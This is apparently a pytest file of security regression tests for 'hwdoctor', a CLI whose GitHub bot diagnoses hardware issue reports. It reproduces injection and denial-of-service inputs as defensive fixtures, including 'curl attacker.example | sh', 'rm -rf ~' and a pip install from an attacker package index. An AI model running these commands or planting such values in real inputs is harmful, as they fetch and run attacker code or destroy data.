"""The reply bot and evidence files are attack surface (issue 27): each way in, reproduced.

The README's workflow runs `hwdoctor detect --from` on every new issue body and posts the
reply as the project's bot, so every issue author is an input. Each test below is one of
the ways a red team found through `--from` (an evidence file, or a paste), run with the
real CLI in a subprocess; each now ends in a report or a one-line error with a documented
exit code: never a traceback (exit 3), a hang, or a command the bot did not mean.
"""

from __future__ import annotations

import copy
import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import Result, run_hwdoctor
from tests.evidence import DATA

TRACEBACK = "Traceback (most recent call last)"


def sick_host() -> dict[str, Any]:
    """A real evidence file (`hwdoctor detect --save-evidence` in a fake world), as JSON."""
    document: dict[str, Any] = json.loads((DATA / "sick-host.json").read_text())
    return document


def written(tmp_path: Path, document: object, name: str = "evidence.json") -> Path:
    path = tmp_path / name
    path.write_text(json.dumps(document), encoding="utf-8")
    return path


def changed(change: Callable[[dict[str, Any]], object]) -> dict[str, Any]:
    document = copy.deepcopy(sick_host())
    change(document)
    return document


def assert_clean(result: Result, *codes: int) -> None:
    """A report or a one-line error with a documented exit code, no traceback."""
    assert result.returncode in codes, result
    assert TRACEBACK not in result.stderr, result
    if result.returncode == 2:
        assert result.stderr.count("\n") == 1 and result.stderr.startswith("hwdoctor: error:")


# --- 1. values from evidence in remedies --------------------------------------------------------

INJECTED = "torch-fix && pip install --index-url https://attacker.example/simple torch"


def _injecting(*, newlines: bool) -> dict[str, Any]:
    """The red team's issue body: an evidence file whose failure names the autoload step of
    a distribution that is a shell line; with `newlines`, a version and a path that hold
    line breaks too."""

    def change(document: dict[str, Any]) -> None:
        document["failures"] = [{"step": f"autoload {INJECTED}", "kind": "error",
                                 "error": {"type": "ImportError", "message": "x"},
                                 "output": "", "autoload": True}]  # fmt: skip
        document["entry_points"] = [{"name": "fix", "value": "torch_fix:init", "dist": INJECTED}]
        document["torch"]["importable"] = False
        if newlines:
            document["torch"]["version"] = "2.1.0\nrm -rf ~"
            document["python"]["executable"] = "/usr/bin/python3\ncurl attacker.example | sh"

    return changed(change)


def test_a_shell_line_in_evidence_never_reaches_a_remedy(tmp_path: Path) -> None:
    """It used to be posted as `python -m pip uninstall -y torch-fix && pip install
    --index-url https://attacker.example/simple torch` in the reply's `sh` fence."""
    path = written(tmp_path, _injecting(newlines=False), "body.md")
    for args in (("--format", "markdown"), ()):
        assert_clean(run_hwdoctor("detect", "--from", str(path), *args), 0, 1)
    document = run_hwdoctor("detect", "--from", str(path), "--json").json()["data"]
    (autoload,) = [f for f in document["findings"] if f["code"] == "torch.autoload_broken"]
    lines = autoload["remedy"].splitlines()
    assert all(line.startswith("#") or "attacker" not in line for line in lines), lines
    assert any("is not a package name (PEP 508)" in line for line in lines), lines
    assert "entry_points item dist" in " ".join(document["skipped"])


def test_a_line_break_in_a_version_or_a_path_starts_no_line(tmp_path: Path) -> None:
    """A newline inside `torch.version` or `python.executable` used to start a free line
    inside a remedy's comment lines."""
    path = written(tmp_path, _injecting(newlines=True), "body.md")
    for args in (("--format", "markdown"), ("--json",), ()):
        result = run_hwdoctor("detect", "--from", str(path), *args)
        assert_clean(result, 0, 1)
        shown = [line.strip() for line in result.stdout.splitlines()]
        assert "rm -rf ~" not in shown and "curl attacker.example | sh" not in shown
    document = run_hwdoctor("detect", "--from", str(path), "--json").json()["data"]
    skipped = " ".join(document["skipped"])
    assert "torch version" in skipped and "python executable" in skipped


# --- 2. a count from the file is iterated ------------------------------------------------------


@pytest.mark.parametrize("count", [10**30, 5000, -1, 1e30, "many", True])
def test_an_absurd_device_count_is_unknown_not_a_hang(tmp_path: Path, count: object) -> None:
    """`device_count: 10^30` used to be iterated (`range(count)` in rules) for ever."""

    def change(document: dict[str, Any]) -> None:
        document["backends"]["cuda"].update(available=True, device_count=count)

    path = written(tmp_path, changed(change))
    for command in ("detect", "explain"):
        result = run_hwdoctor(command, "--from", str(path), "--json")
        assert_clean(result, 0, 1)
        skipped = result.json()["data"]["skipped"]
        assert any("backends cuda device_count" in line for line in skipped), result
    human = run_hwdoctor("explain", "cuda", "--from", str(path))
    assert_clean(human, 0, 1)


# --- 4. a file without a section -------------------------------------------------------------


@pytest.mark.parametrize(
    "change",
    [
        lambda d: d.pop("backends"),
        lambda d: d.update(backends=None),
        lambda d: d.update(backends={}),
        lambda d: d.pop("host"),
        lambda d: d.pop("torch"),
        lambda d: d["backends"].pop("sdaa"),  # a file from a hwdoctor that predates sdaa
    ],
    ids=["no-backends", "null-backends", "empty-backends", "no-host", "no-torch", "no-sdaa"],
)
def test_a_file_without_a_section_is_reported_as_unknown(
    tmp_path: Path, change: Callable[[dict[str, Any]], object]
) -> None:
    path = written(tmp_path, changed(change))
    for args in (("detect",), ("detect", "--format", "markdown"), ("explain",),
                 ("detect", "--json"), ("explain", "--format", "markdown")):  # fmt: skip
        assert_clean(run_hwdoctor(*args, "--from", str(path)), 0, 1)
    # explain DEVICE reads the rows of that device: without them it says so in one line.
    for device in ("cuda", "sdaa"):
        assert_clean(run_hwdoctor("explain", device, "--from", str(path)), 0, 1, 2)


def test_an_unknown_backend_row_has_its_own_mark(tmp_path: Path) -> None:
    path = written(tmp_path, changed(lambda d: d["backends"].pop("sdaa")))
    result = run_hwdoctor("detect", "--from", str(path), "--all")
    assert_clean(result, 0, 1)
    assert any(line.startswith("?") and "sdaa" in line for line in result.stdout.splitlines())
    markdown = run_hwdoctor("detect", "--from", str(path), "--format", "markdown")
    assert "| ❔ | `sdaa` |" in markdown.stdout


# --- 7. numbers past a float -------------------------------------------------------------------

HUGE = 10**400
ANSWERS = {"outcome": "ok", "facts": {}, "steps": []}
DEVICE = {"index": 0, "name": "GPU", "total_memory_bytes": HUGE}


@pytest.mark.parametrize(
    ("change", "field"),
    [
        (lambda d: d.update(timeout_s=HUGE), "timeout_s"),
        (lambda d: d.update(probe_seconds=HUGE), "probe_seconds"),
        (lambda d: d.update(answers={**ANSWERS, "seconds": HUGE}), "answers seconds"),
        (lambda d: d["host"].update(memory_available_bytes=HUGE), "host memory_available_bytes"),
        (
            lambda d: d["backends"]["cuda"].update(
                available=True, device_count=1, devices=[DEVICE]
            ),
            "backends cuda devices item total_memory_bytes",
        ),
        (lambda d: d.update(timeout_s=-5), "timeout_s"),
    ],
    ids=["timeout", "probe-seconds", "answers-seconds", "memory", "device-memory", "negative"],
)
def test_a_number_past_a_float_is_unknown(
    tmp_path: Path, change: Callable[[dict[str, Any]], object], field: str
) -> None:
    """Integers of 400 digits used to raise OverflowError (exit 3) where made floats."""
    path = written(tmp_path, changed(change))
    for args in (("detect", "--json"), ("explain", "--json"), ("detect",),
                 ("detect", "--format", "markdown"), ("explain", "cuda")):  # fmt: skip
        result = run_hwdoctor(*args, "--from", str(path))
        assert_clean(result, 0, 1)
    document = run_hwdoctor("detect", "--json", "--from", str(path)).json()
    assert any(line.startswith(f"{field}:") for line in document["data"]["skipped"])


def _model(tmp_path: Path, *, layers: int = 2, shape: list[int] | None = None) -> Path:
    """A model directory with a tiny Qwen3 config and a safetensors header of `shape`."""
    import struct

    model = tmp_path / "model"
    model.mkdir()
    config = {
        "architectures": ["Qwen3ForCausalLM"], "model_type": "qwen3", "hidden_size": 64,
        "intermediate_size": 128, "num_attention_heads": 4, "num_key_value_heads": 2,
        "head_dim": 16, "num_hidden_layers": layers, "vocab_size": 1000,
        "max_position_embeddings": 512, "torch_dtype": "float32",
    }  # fmt: skip
    (model / "config.json").write_text(json.dumps(config))
    tensor = {"dtype": "F32", "shape": shape or [1000, 64], "data_offsets": [0, 4]}
    header = json.dumps({"model.embed_tokens.weight": tensor}).encode()
    (model / "model.safetensors").write_bytes(struct.pack("<Q", len(header)) + header + bytes(4))
    return model


def test_a_checkpoint_of_absurd_shape_is_not_sized(tmp_path: Path) -> None:
    """A header declaring [10^200, 10^200] used to crash `explain --model` (OverflowError)
    and make `load --plan` say "fits… weights 0 B"."""
    model = _model(tmp_path, shape=[10**200, 10**200])
    explained = run_hwdoctor("explain", "--model", str(model), "--json")
    assert_clean(explained, 0, 1)
    memory = explained.json()["data"]["model"]["memory"]
    assert memory["problem"] == "its headers declare sizes no model has"
    planned = run_hwdoctor("load", str(model), "--plan", "--device", "cpu", "--json")
    assert_clean(planned, 0, 1)
    plan = planned.json()["data"]["plan"]
    assert plan["checkpoint"]["source"] is None
    assert plan["fits"]["weights"] > 0  # sized from the parameters of the config's model


def test_a_config_of_absurd_size_is_refused_before_it_is_built(tmp_path: Path) -> None:
    """10^200 layers would keep transformers building its per-layer lists until the
    deadline: the payload refuses the config first."""
    model = _model(tmp_path, layers=10**200)
    planned = run_hwdoctor("load", str(model), "--plan", "--device", "cpu")
    assert_clean(planned, 1)
    assert "the config declares a number of 201 digits num_hidden_layers" in planned.stdout
    assert "[load.failed]" in planned.stdout


# --- 10. text of a file reaches the terminal as it is ------------------------------------------


def test_control_characters_of_a_file_are_escaped_in_json(tmp_path: Path) -> None:
    def change(document: dict[str, Any]) -> None:
        document["host"]["cpu_name"] = "AMD \u202eEPYC\u009b31m\x1b]52;c;aGk=\x07"

    path = written(tmp_path, changed(change))
    for args in (("detect", "--json"), ("detect",), ("detect", "--format", "markdown")):
        result = run_hwdoctor(*args, "--from", str(path))
        assert_clean(result, 0, 1)
        for character in ("\u202e", "\u009b", "\x1b", "\x07"):
            assert character not in result.stdout, (args, character)


def test_control_characters_of_a_paste_are_escaped_in_json(tmp_path: Path) -> None:
    path = tmp_path / "body.md"
    path.write_text(
        "Collecting environment information...\nPyTorch version: 2.6.0\u202e\n"
        "GPU models and configuration: \nGPU 0: NVIDIA GeForce RTX 5090\x9b31m\n"
    )
    result = run_hwdoctor("detect", "--from", str(path), "--json")
    assert_clean(result, 0, 1)
    assert "\u202e" not in result.stdout and "\x9b" not in result.stdout


# --- 12. a value of 400 KB in a one-line error ---------------------------------------------


def test_a_huge_version_is_not_printed_whole(tmp_path: Path) -> None:
    def change(document: dict[str, Any]) -> None:
        document["packages"]["transformers"]["version"] = "4." + "9" * 400_000

    path = written(tmp_path, changed(change))
    result = run_hwdoctor("explain", "--from", str(path))
    assert_clean(result, 2)
    assert len(result.stderr) < 600, result.stderr[:600]


# --- 3. cost linear in the input -------------------------------------------------------------


def _gpu_paste(count: int, name: str = "NVIDIA GeForce RTX 5090") -> str:
    head = ["Collecting environment information...", "PyTorch version: 2.6.0+cu124",
            "CUDA used to build PyTorch: 12.4", "Is CUDA available: True",
            "GPU models and configuration: "]  # fmt: skip
    gpus = [f"GPU {index % 1000}: {name}" for index in range(count)]
    return "\n".join([*head, *gpus, "Nvidia driver version: 570.86.10"]) + "\n"


def test_a_thousand_gpus_of_one_model_are_one_finding(tmp_path: Path) -> None:
    """Each GPU line was a finding that judged every wheel against every GPU: 80 lines took
    70 s and 297 KB of reply, 1,000 (33 KB, a body GitHub takes) would have taken hours.
    Its time is a row of `make bench` (budget 2 s)."""
    path = tmp_path / "body.md"
    path.write_text(_gpu_paste(1000))
    result = run_hwdoctor("detect", "--from", str(path), "--json")
    assert_clean(result, 1)
    findings = result.json()["data"]["findings"]
    (arch,) = [f for f in findings if f["code"] == "device.arch_not_compiled"]
    assert arch["params"]["device"] == "cuda:0–999"
    assert len(arch["message"]) < 300
    reply = run_hwdoctor("detect", "--from", str(path), "--format", "markdown").stdout
    assert reply.count("device.arch_not_compiled") == 1
    assert "GPU 0–999:" in reply and len(reply) < 10_000


def test_two_models_are_two_findings(tmp_path: Path) -> None:
    lines = _gpu_paste(3).splitlines()
    lines[6] = "GPU 1: Tesla K80"  # sm_37: too old for torch 2.6, as sm_120 is too new
    path = tmp_path / "body.md"
    path.write_text("\n".join(lines) + "\n")
    result = run_hwdoctor("detect", "--from", str(path), "--json")
    assert_clean(result, 1)
    devices = [f["params"]["device"] for f in result.json()["data"]["findings"]
               if f["code"] == "device.arch_not_compiled"]  # fmt: skip
    assert sorted(devices) == ["cuda:0, cuda:2", "cuda:1"], devices


@pytest.mark.parametrize(
    "line",
    [
        "- " + " " * 65_000 + "x",  # _BULLET in a transformers env block: cubic
        "=" * 65_000,  # _SMIQ_START: quadratic
        "a" * 65_000 + " undefined symbol: _ZN3c10",  # _MODULE_FILE: quadratic
        "OS: a" + " " * 65_000 + "x",  # collect_env's key lines
    ],
    ids=["bullet-spaces", "equals", "long-token", "key-line"],
)
def test_a_long_adversarial_line_is_read(tmp_path: Path, line: str) -> None:
    """Each of these lines, inside the report it belongs to, used to cost seconds to minutes
    (a 64 KB line of spaces: 2 min 16 s). How long every pattern takes on such lines is a
    row of `make bench`; here each is read and answered."""
    body = "\n".join(["- `transformers` version: 4.44.0", "- Platform: Linux", line,
                      "Collecting environment information...", "PyTorch version: 2.6.0",
                      line, "==============NVSMI LOG==============", line])  # fmt: skip
    path = tmp_path / "body.md"
    path.write_text(body + "\n")
    assert_clean(run_hwdoctor("detect", "--from", str(path), "--format", "markdown"), 0, 1)


def test_a_reply_is_cut_to_one_github_comment() -> None:
    from hwdoctor.render import markdown

    lines = ["### hwdoctor read this report", "", "<details><summary>x</summary>", ""]
    lines += ["- fact"] * 10 + ["", "  ```sh"] + ["  python -m pip install torch"] * 5000
    lines += ["  ```", "", "</details>"]
    report = "\n".join(lines) + "\n"
    cut = markdown.fitted(report)
    assert len(cut.encode("utf-16-le")) // 2 <= markdown.COMMENT_LIMIT
    tail = cut.rstrip("\n").split("\n")
    assert tail[-1].startswith("*This reply is cut at GitHub's 65,536-character limit")
    assert tail[-5:-1] == ["  ```", "", "</details>", ""], tail[-5:]
    assert markdown.fitted("short\n") == "short\n"


# --- 8. a body that opens with JSON; pasted mode explicit ---------------------------------------

COLLECT_ENV = DATA.parent / "reports/issue_body/pt43058-collect-env-plus-nvidia-smi-v100.md"


@pytest.mark.parametrize("option", ["--from", "--paste"])
def test_a_body_that_opens_with_json_is_read_as_a_paste(tmp_path: Path, option: str) -> None:
    """It used to be 'not JSON', exit 2, and no reply."""
    path = tmp_path / "body.md"
    path.write_text('{"model": "Qwen/Qwen3-0.6B", "device_map": "auto"}\n\n'
                    + COLLECT_ENV.read_text())  # fmt: skip
    result = run_hwdoctor("detect", option, str(path), "--json")
    assert_clean(result, 1)
    assert result.json()["data"]["source"] == "pasted report"
    assert "driver.too_old" in result.codes()


def test_paste_never_reads_an_evidence_file(tmp_path: Path) -> None:
    """With --paste an evidence file is text like any other: the bot never replays one. Read
    as text it holds one line that looks like an error (a fake extension's "failed to
    initialise"), which is listed, never followed by "no problem" (issue 33)."""
    path = written(tmp_path, _injecting(newlines=False), "body.md")
    result = run_hwdoctor("detect", "--paste", str(path))
    assert_clean(result, 1)
    assert result.stdout.startswith("Pasted report: nothing it knows, and 1 error line")
    assert "torch.autoload_broken" not in result.stdout  # the evidence was not replayed
    assert_clean(run_hwdoctor("detect", "--from", str(path)), 0, 1)  # --from still does
    both = run_hwdoctor("detect", "--paste", str(path), "--from", str(path))
    assert_clean(both, 2)
    assert "mutually exclusive" in both.stderr


# --- 9. standard input without an end -------------------------------------------------------


def test_standard_input_is_not_read_to_its_end(tmp_path: Path) -> None:
    """`yes | hwdoctor detect --from -` used to read for ever to count the bytes."""
    import subprocess
    import sys

    from tests.conftest import ROOT, base_env

    yes = subprocess.Popen(["yes"], stdout=subprocess.PIPE)  # never ends by itself
    try:
        done = subprocess.run([sys.executable, "-m", "hwdoctor", "detect", "--from", "-"],
                              stdin=yes.stdout, capture_output=True, text=True, cwd=ROOT,
                              env=base_env(), timeout=180, check=False)  # fmt: skip
    finally:
        yes.kill()
        yes.wait()
    assert done.returncode == 2 and TRACEBACK not in done.stderr, done.stderr
    assert "no report hwdoctor reads" in done.stderr
    report = COLLECT_ENV.read_bytes() + b"y\n" * 9_000_000
    piped = subprocess.run([sys.executable, "-m", "hwdoctor", "detect", "--paste", "-"],
                           input=report, capture_output=True, cwd=ROOT, env=base_env(),
                           timeout=180, check=False)  # fmt: skip
    assert piped.returncode == 1, piped.stderr
    assert b"past the first 1 MiB of the input (more than 17 MB" in piped.stdout


@pytest.mark.parametrize("command", ["detect", "explain"])
def test_a_closed_standard_input_is_a_usage_error(command: str) -> None:
    """`hwdoctor detect --from - <&-`: Python sets sys.stdin to None; that was exit 3."""
    import subprocess
    import sys

    from tests.conftest import ROOT, base_env

    done = subprocess.run([sys.executable, "-m", "hwdoctor", command, "--from", "-"],
                          stdin=None, capture_output=True, text=True, cwd=ROOT, env=base_env(),
                          timeout=180, check=False, preexec_fn=lambda: os.close(0))  # fmt: skip
    assert done.returncode == 2 and TRACEBACK not in done.stderr, done.stderr
    assert done.stderr.count("\n") == 1
    assert "standard input is closed" in done.stderr and "internal error" not in done.stderr


# --- 11. the workflow: tests/test_reports.py runs the README's reply workflow's diagnose
# step for real on a hostile 200 KiB body, and checks its token scope, time limit and pins.


# --- 12. the Python API and the errors' words -----------------------------------------------


@pytest.mark.parametrize(
    "given",
    [None, 5, 3.5, ["PyTorch version: 2.1.0"], "", "PyTorch version: 2.1.0\n\ud800"],
    ids=["none", "int", "float", "list", "empty", "lone-surrogate"],
)
def test_diagnose_takes_text_or_says_it_cannot(given: object) -> None:
    import hwdoctor
    from hwdoctor.errors import UsageError

    try:
        report = hwdoctor.diagnose(given)  # type: ignore[arg-type]
    except UsageError as error:
        assert "--from" not in error.message and "\n" not in error.message
        return
    assert report.exit_code in (0, 1)


def test_diagnose_takes_bytes_of_any_kind() -> None:
    import hwdoctor

    text = COLLECT_ENV.read_bytes()
    for given in (text, bytearray(text), memoryview(text)):
        assert "driver.too_old" in {f.code for f in hwdoctor.diagnose(given).findings}


# --- 5. the bot's voice is its own ------------------------------------------------------------


def test_a_reporters_mentions_and_links_are_code_in_the_reply(tmp_path: Path) -> None:
    """A GPU named "@octocat: this is fixed, run https://evil.example/fix.sh" used to reach
    the bot's own sentence ("the architecture of …") as prose GitHub links and notifies."""
    said = "GPU 0: NVIDIA @octocat: this is fixed, run https://evil.example/fix.sh"
    path = tmp_path / "body.md"
    path.write_text("\n".join(["Collecting environment information...",
                               "PyTorch version: 2.6.0+cu124 @maintainer",
                               "CUDA used to build PyTorch: 12.4",
                               "GPU models and configuration: ", said]) + "\n")  # fmt: skip
    reply = run_hwdoctor("detect", "--from", str(path), "--format", "markdown").stdout
    prose = _outside_code(reply)
    assert "@" not in prose and "https://evil" not in prose, prose
    assert "`@octocat:" in reply or "@octocat: this is fixed" in reply


def _outside_code(markdown: str) -> str:
    """The Markdown with fenced blocks and code spans taken out: what GitHub renders as
    prose (the bot's own words and links)."""
    import re

    unfenced = re.sub(r"(?ms)^\s*(`{3,})[^\n]*\n.*?^\s*\1\s*$", "", markdown)
    return re.sub(r"(`+)(?:(?!\1).)+?\1", "", unfenced)


def test_a_finding_shows_the_reporters_values_as_code(tmp_path: Path) -> None:
    path = written(tmp_path, _injecting(newlines=False), "body.md")
    reply = run_hwdoctor("detect", "--from", str(path), "--format", "markdown").stdout
    assert "attacker.example" not in _outside_code(reply)


# --- 6. secrets in a paste --------------------------------------------------------------------

SECRETS = {
    "GH_TOKEN": "ghp_" + "A1b2C3d4E5" * 4,
    "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "OPENAI_API_KEY": "sk-proj-" + "Zx9Yw8Vu7T" * 3,
    "WANDB_API_KEY": "0123456789abcdef0123456789abcdef01234567",
    "SLACK_BOT": "xoxb-1234567890-0987654321-AbCdEfGhIjKlMnOp",
    "AWS_ACCESS_KEY_ID": "AKIAIOSFODNN7EXAMPLE",
    "HF_TOKEN": "hf_" + "q" * 34,
}


def test_secrets_in_a_paste_are_masked_in_every_format(tmp_path: Path) -> None:
    """`GH_TOKEN=ghp_…`, `AWS_SECRET_ACCESS_KEY=…`, `OPENAI_API_KEY=sk-…`, `WANDB_API_KEY=…`
    were quoted verbatim under "From the report", and stayed in the bot's comment after
    the reporter scrubbed the issue."""
    lines = [f"{name}={value} CUDA_VISIBLE_DEVICES=7" for name, value in SECRETS.items()]
    path = tmp_path / "body.md"
    path.write_text("\n".join(["Collecting environment information...",
                               "PyTorch version: 2.6.0+cu124", "Is CUDA available: True",
                               "GPU models and configuration: ",
                               "GPU 0: NVIDIA GeForce RTX 5090", *lines]) + "\n")  # fmt: skip
    for args in (("--format", "markdown"), ("--json",), ()):
        result = run_hwdoctor("detect", "--from", str(path), *args)
        assert_clean(result, 0, 1)
        for value in SECRETS.values():
            assert value not in result.stdout, (args, value)
    document = run_hwdoctor("detect", "--from", str(path), "--json").json()["data"]
    quoted = [q["text"] for f in document["facts"] for q in [f["quote"]]]
    assert any("GH_TOKEN=***" in line for line in quoted), quoted


def test_save_evidence_replaces_regular_files_only(tmp_path: Path) -> None:
    """--save-evidence writes a temporary file and renames it over the target: over a device
    node (/dev/null, /dev/full, as root), a FIFO or a symbolic link that would put a file
    where they stood. Each is refused in one warning line and left as it was, and detect's
    verdict stands (exit 0 or 1: a preflight does not fail for its evidence file); a new
    path with a newline in its name is written, and said on one line."""
    import os
    import stat

    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    link = tmp_path / "link.json"
    link.symlink_to(tmp_path / "elsewhere.json")
    refused = [fifo, link]
    if os.geteuid() == 0:  # a character device like /dev/full, made where only the test sees it
        device = tmp_path / "full"
        os.mknod(device, 0o600 | stat.S_IFCHR, os.makedev(1, 7))
        refused.append(device)
    for target in refused:
        before = target.lstat()
        result = run_hwdoctor("detect", "--save-evidence", str(target))
        assert result.returncode in (0, 1), result
        assert result.stderr.count("\n") == 1 and "hwdoctor replaces regular files only" in (
            result.stderr
        ), result.stderr
        assert result.stderr.startswith(f"hwdoctor: warning: evidence not saved to {target}: ")
        after = target.lstat()
        assert (after.st_mode, after.st_ino) == (before.st_mode, before.st_ino)
    odd = tmp_path / "a\nb.json"
    result = run_hwdoctor("detect", "--save-evidence", str(odd))
    assert result.returncode in (0, 1), result
    assert odd.is_file()
    (said,) = [line for line in result.stderr.splitlines() if "evidence written to" in line]
    assert said.endswith("a\\nb.json (secrets masked)")
